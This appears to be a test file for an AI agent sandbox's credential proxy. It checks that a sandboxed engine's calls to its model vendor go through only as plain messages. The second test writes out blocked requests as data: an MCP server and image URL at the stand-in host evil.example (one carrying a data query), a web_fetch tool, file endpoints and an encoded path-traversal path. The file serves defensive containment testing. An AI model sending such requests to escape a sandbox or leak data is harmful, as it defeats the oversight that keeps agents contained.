import { afterAll, beforeAll, beforeEach, expect, test } from "bun:test";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { newResults } from "../../fakes/llm-transcript.ts";
import { ProgramBench, shell } from "../../fakes/program-bench.ts";

const key = "sk-ant-canary-0123456789";

let vendor: ReturnType<typeof Bun.serve>;
let asked: { readonly path: string; readonly key: string | null; readonly body: unknown }[] = [];

/** A model's server as an engine inside a sandbox sees it: it streams, and would do more if it were asked to. */
beforeAll(() => {
  vendor = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    async fetch(request) {
      const { pathname } = new URL(request.url);
      const body: unknown = await request.json().catch(() => undefined);
      asked.push({ path: pathname, key: request.headers.get("x-api-key"), body });
      const events = ["message_start", "content_block_delta", "message_stop"].map(
        (type) => `event: ${type}\ndata: {"type":"${type}"}\n\n`,
      );
      return new Response(events.join(""), { headers: { "content-type": "text/event-stream" } });
    },
  });
});
afterAll(() => vendor.stop(true));
beforeEach(() => {
  asked = [];
});

const question = {
  model: "claude-good",
  max_tokens: 9,
  stream: true,
  messages: [{ role: "user", content: "hi" }],
};
const image = (source: unknown) => [{ role: "user", content: [{ type: "image", source }] }];

/** What an engine sends from inside, and what its model's server hears of it. */
async function ask(
  requests: readonly { readonly path?: string; readonly body: unknown }[],
  isTainted = false,
) {
  const lines = requests.map(
    ({ path = "/v1/messages", body }) =>
      `curl -s -w '[%{http_code}]\\n' -H 'x-api-key: placeholder' -H 'anthropic-version: 2023-06-01' --data-binary '${JSON.stringify(body)}' "$NANOCLAW_GRANT_BRAIN_URL${path}"`,
  );
  await using bench = await ProgramBench.open({
    script: (request) => {
      const results = newResults(request);
      return results.length === 0 ? { calls: [shell(lines.join("\n"))] } : { text: results[0]?.text ?? "" };
    },
  });
  await bench.run(["secrets", "set", "BRAIN_KEY", "-"], { stdin: key });
  const url = `http://127.0.0.1:${vendor.port}`;
  const granted = await bench.run([
    ...["secrets", "grant", "BRAIN_KEY", "--name", "brain", "--url", url],
    ...["--model-wire", "anthropic", "--model", "claude-good"],
  ]);
  expect(granted).toMatchObject({ code: 0 });
  await writeFile(join(bench.folder, "diary.txt"), "private");
  const taint = isTainted ? ["--folder", bench.folder] : [];
  const stdin = isTainted ? { stdin: "words of a stranger" } : {};
  const { out } = await bench.run(["agent", "-m", "try", ...taint], stdin);
  return { out, codes: [...out.matchAll(/\[(\d{3})\]/g)].map(([, code]) => Number(code)) };
}

test("an engine inside asks its model with a placeholder, and the answer streams back", async () => {
  const { out, codes } = await ask([{ body: question }]);
  expect(codes).toEqual([200]);
  expect(out).toContain("event: message_stop");
  expect(asked).toEqual([{ path: "/v1/messages", key, body: question }]);
});

test("what would have the vendor act for the one inside never reaches it", async () => {
  const { codes } = await ask([
    { body: { ...question, model: "claude-other" } },
    { body: { ...question, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] } },
    { body: { ...question, mcp_servers: [{ type: "url", url: "https://evil.example", name: "x" }] } },
    { body: { ...question, messages: image({ type: "url", url: "https://evil.example/?d=1" }) } },
    { body: { ...question, messages: image({ type: "file", file_id: "file_1" }) } },
    { path: "/v1/files", body: question },
    { path: "/v1/messages/batches", body: question },
    { path: "/v1/messages/..%2ffiles", body: question },
    // The twin, behind all of them.
    { body: { ...question, messages: image({ type: "base64", media_type: "image/png", data: "AA" }) } },
  ]);
  expect(codes).toEqual([403, 403, 403, 403, 403, 403, 403, 400, 200]);
  expect(asked).toHaveLength(1);
});

test("a group that read private data and strangers' words still thinks", async () => {
  expect((await ask([{ body: question }], true)).codes).toEqual([200]);
  expect(asked).toHaveLength(1);
});
